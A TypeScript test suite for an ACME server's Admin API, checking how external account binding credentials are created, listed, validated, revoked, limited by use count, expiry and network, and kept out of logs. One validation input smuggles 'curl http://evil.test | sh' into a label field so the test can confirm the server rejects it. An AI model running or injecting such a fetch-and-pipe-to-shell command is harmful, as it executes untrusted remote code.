/** Binding credentials over the Admin API (RFC 8555 §7.3.4). */

import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { type AcmeClient, createAcmeClient } from '../support/acme-client.ts'
import { assertNamed } from '../support/admin.ts'
import { administered } from '../support/administered.ts'
import { accountIdOf, boundClient, type MadeCredential, made, NOBODY, newestEntries } from '../support/bound.ts'
import { metricOf } from '../support/metrics.ts'
import { bindingFor } from '../support/operator.ts'
import { sharedService } from '../support/shared-service.ts'
import { until } from '../support/until.ts'

const agreed = (client: AcmeClient, { kid, hmac_key }: MadeCredential) => ({
  termsOfServiceAgreed: true,
  externalAccountBinding: bindingFor(client, { kid, hmacKey: Buffer.from(hmac_key, 'base64url') }),
})

describe('binding credentials', () => {
  const { service, sql, as } = administered(() => sharedService('admin'))
  const admin = as('alice')
  const auditor = as('audrey', 'auditor')

  let kids = 0
  const create = (more: object = {}) => made<MadeCredential>(admin, '/eab', { kid: `kid-${++kids}`, ...more })
  const read = async (id: string) => (await admin.get(`/eab/${id}`)).json

  test('the key is shown once, when it is made', async () => {
    const reply = await admin.send('POST', '/eab', { kid: ' shown ', label: 'of the team' })
    assert.equal(reply.status, 201)
    const { hmac_key, ...facts } = reply.json
    assert.match(hmac_key, /^[A-Za-z0-9_-]{43}$/)
    assert.deepEqual([facts.kid, facts.label, facts.used, facts.revoked], ['shown', 'of the team', false, false])
    assert.deepEqual([facts.account_id, facts.used_at], [null, null])
    assert.equal(facts.created_by, (await admin.get('/me')).json.id)
    assert.deepEqual(await read(facts.id), facts)
    const [newest] = (await admin.get('/eab')).json
    assert.deepEqual(newest, facts)
    const [entry] = await newestEntries(admin, 1)
    assert.deepEqual(entry, { action: 'eab.create', details: { eab_id: facts.id, kid: 'shown', label: 'of the team' } })
  })

  test('an account that registers with it uses it up', async () => {
    const credential = await create()
    const client = await boundClient(service, credential)
    const used = await read(credential.id)
    assert.deepEqual([used.used, used.account_id], [true, accountIdOf(client)])
    assert.match(used.used_at, /Z$/)
  })

  test('the list shows by choice those that live on, the expired or the revoked', async () => {
    const [open, expired, revoked] = [await create(), await create({ expires_at: '2100-01-01' }), await create()]
    await sql("UPDATE eab_credentials SET expires_at = now() - interval '1 day' WHERE id = $1", [expired.id])
    await admin.send('POST', `/eab/${revoked.id}/revoke`)
    const made = [open.id, expired.id, revoked.id]
    const listed = async (status: string) =>
      (await admin.get(`/eab?status=${status}`)).json
        .map(({ id }: { id: string }) => id)
        .filter((id: string) => made.includes(id))
    assert.deepEqual(await listed('open'), [open.id])
    assert.deepEqual(await listed('expired'), [expired.id])
    assert.deepEqual(await listed('revoked'), [revoked.id])
    assert.equal((await admin.get('/eab?status=used')).status, 400)
  })

  test('a taken kid is a conflict; what is missing or wrong is named', async () => {
    const { kid } = await create()
    assert.equal((await admin.send('POST', '/eab', { kid })).status, 409)
    await assertNamed(
      (body) => admin.send('POST', '/eab', body),
      [
        [{}, 'kid'],
        [{ kid: '  ' }, 'kid'],
        [{ kid: 'x'.repeat(256) }, 'kid'],
        [{ kid: 'a\nb' }, 'kid'],
        [{ kid: 'long-label', label: 'x'.repeat(256) }, 'label'],
        [{ kid: 'lines', label: 'team\ncurl http://evil.test | sh' }, 'label'],
        [{ kid: 'ca-profile', profiles: ['none'] }, 'profiles'],
        [{ kid: 'network', preapproved_networks: ['10.0.0.1/8'] }, 'preapproved_networks'],
        [{ kid: 'everybody', preapproved_networks: ['0.0.0.0/0'] }, 'preapproved_networks'],
        [{ kid: 'wide', preapproved_networks: ['10.0.0.0/16', '10.0.0.0/7'] }, 'preapproved_networks'],
        [{ kid: 'wide-6', preapproved_networks: ['2000::/31'] }, 'preapproved_networks'],
        [{ kid: 'past', expires_at: '2020-01-01' }, 'expires_at'],
        [{ kid: 'none', max_uses: 0 }, 'max_uses'],
        [{ kid: 'anywhere', allowed_networks: [] }, 'allowed_networks'],
        [{ kid: 'mass', revoked: true }, 'revoked'],
        [{ kid: 'pattern', allowed_identifiers: ['a.test', 'a..test'] }, 'allowed_identifiers'],
        [{ kid: 'profile', csr_profile_id: 'servers' }, 'csr_profile_id'],
      ],
    )
  })

  test('what it grants is made with it, or nothing is', async () => {
    const profile = await made(admin, '/csr-profiles', { name: 'granted', profile_data: {} })
    const allowed_identifiers = ['*.Granted.test', '10.0.0.0/8', '*.granted.test']
    const { id } = await create({ allowed_identifiers, csr_profile_id: profile.id })
    const identifiers = (await admin.get(`/eab/${id}/allowed-identifiers`)).json
    assert.deepEqual(identifiers.map((row: { identifier_value: string }) => row.identifier_value).sort(), [
      '*.granted.test',
      '10.0.0.0/8',
    ])
    assert.equal((await admin.get(`/eab/${id}/csr-profile`)).json.id, profile.id)
    const actions = (await newestEntries(admin, 6)).map(({ action }) => action)
    assert.deepEqual(actions.filter((action) => action.startsWith('eab.')).sort(), [
      'eab.add_identifier',
      'eab.add_identifier',
      'eab.assign_csr_profile',
      'eab.create',
    ])
    const wanted = { kid: 'without', allowed_identifiers: ['none.test'], csr_profile_id: NOBODY }
    assert.equal((await admin.send('POST', '/eab', wanted)).status, 404)
    assert.deepEqual((await admin.get('/eab?kid=without')).json, [])
    assert.deepEqual((await admin.get('/allowed-identifiers?value=none.test')).json, [])
  })

  test('a list by key id has one, whatever the key id looks like', async () => {
    const kid = NOBODY
    const { id } = await create({ kid })
    assert.deepEqual(
      (await admin.get(`/eab?kid=${kid}`)).json.map((row: { id: string }) => row.id),
      [id],
    )
    assert.deepEqual((await admin.get('/eab?kid=%25')).json, [])
  })

  test('revocation takes the account with it, may be repeated, and is audited each time', async () => {
    const credential = await create()
    const client = await boundClient(service, credential)
    const order = await client.newOrder(['pending.test'])
    for (let time = 0; time < 2; time++) {
      const reply = await admin.send('POST', `/eab/${credential.id}/revoke`)
      assert.deepEqual([reply.status, reply.json.revoked, 'hmac_key' in reply.json], [200, true, false])
      const ids = time === 0 ? [accountIdOf(client)] : []
      assert.deepEqual([reply.json.revoked_accounts, reply.json.revoked_account_ids], [ids.length, ids])
    }
    assert.equal((await client.post(client.kid)).status, 401)
    assert.equal((await client.post(String(order.headers.location))).status, 401)
    const facts = { eab_id: credential.id, kid: credential.kid }
    const accounts = [accountIdOf(client)]
    assert.deepEqual(await newestEntries(admin, 2), [
      { action: 'eab.revoke', details: { ...facts, linked_accounts: [], revoked_accounts: [] } },
      { action: 'eab.revoke', details: { ...facts, linked_accounts: accounts, revoked_accounts: accounts } },
    ])
    const late = await createAcmeClient(service.directoryUrl)
    const refused = await late.newAccount(agreed(late, credential))
    assert.equal(refused.status, 403)
  })

  test('an account that its holder deactivated stays deactivated', async () => {
    const credential = await create()
    const client: AcmeClient = await boundClient(service, credential)
    await client.post(client.kid, { status: 'deactivated' })
    await admin.send('POST', `/eab/${credential.id}/revoke`)
    const [entry] = await newestEntries(admin, 1)
    assert.deepEqual([entry?.details['linked_accounts'], entry?.details['revoked_accounts']], [[], []])
  })

  async function refusal(credential: MadeCredential): Promise<string> {
    const client = await createAcmeClient(service.directoryUrl)
    const answer = await client.newAccount(agreed(client, credential))
    assert.deepEqual([answer.status, answer.json.type], [403, 'urn:ietf:params:acme:error:unauthorized'], answer.text)
    return answer.json.detail
  }

  test('as many accounts register with it as max_uses says, also at once', async () => {
    const credential = await create({ max_uses: 3 })
    const clients: AcmeClient[] = []
    for (let client = 0; client < 5; client++) clients.push(await createAcmeClient(service.directoryUrl))
    const answers = await Promise.all(clients.map((client) => client.newAccount(agreed(client, credential))))
    assert.deepEqual(answers.map(({ status }) => status).sort(), [201, 201, 201, 403, 403])
    const { uses, max_uses } = await read(credential.id)
    assert.deepEqual([uses, max_uses], [3, 3])
    assert.match(await refusal(credential), /as many accounts have registered/)
  })

  test('nobody registers with it after expires_at', async () => {
    const expires_at = new Date(Date.now() + 3_600_000).toISOString()
    const credential = await create({ expires_at })
    assert.equal((await read(credential.id)).expires_at, expires_at)
    await sql("UPDATE eab_credentials SET expires_at = now() - interval '1 second' WHERE id = $1", [credential.id])
    assert.match(await refusal(credential), /has expired/)
  })

  test('it is good from its networks only', async () => {
    const inside = await create({ allowed_networks: ['127.0.0.0/8', '::1'] })
    assert.deepEqual((await read(inside.id)).allowed_networks, ['127.0.0.0/8', '::1/128'])
    await boundClient(service, inside)
    const outside = await create({ allowed_networks: ['192.0.2.0/24', '2001:db8::/32'] })
    assert.match(await refusal(outside), /may not be used from this address/)
    assert.equal((await read(outside.id)).used, false)
  })

  test('unknown ids are 404', async () => {
    for (const [method, path] of [
      ['GET', `/eab/${NOBODY}`],
      ['GET', '/eab/x'],
      ['POST', `/eab/${NOBODY}/revoke`],
      ['GET', `/eab/${NOBODY}/csr-profile`],
    ] as const)
      assert.equal((await admin.send(method, path)).status, 404, path)
  })

  test('auditors have no access', async () => {
    const { id } = await create()
    for (const [method, path] of [
      ['GET', '/eab'],
      ['GET', `/eab/${id}`],
      ['POST', `/eab/${id}/revoke`],
    ] as const)
      assert.equal((await auditor.send(method, path)).status, 403, path)
  })

  test('keys are neither in the audit log nor in the log of the service', async () => {
    const { hmac_key } = await create()
    const { text } = await admin.get('/audit-log?limit=100')
    assert.ok(!text.includes(hmac_key))
    assert.ok(!JSON.stringify(service.log).includes(hmac_key))
  })

  test('accounts revoked with their credential are counted', async () => {
    const counted = () => metricOf(service, 'accounts_revoked_total', admin.token)
    const credential = await create()
    await boundClient(service, credential)
    const before = await counted()
    await admin.send('POST', `/eab/${credential.id}/revoke`)
    await until('the metric to count the account', async () => (await counted()) === before + 1)
  })
})
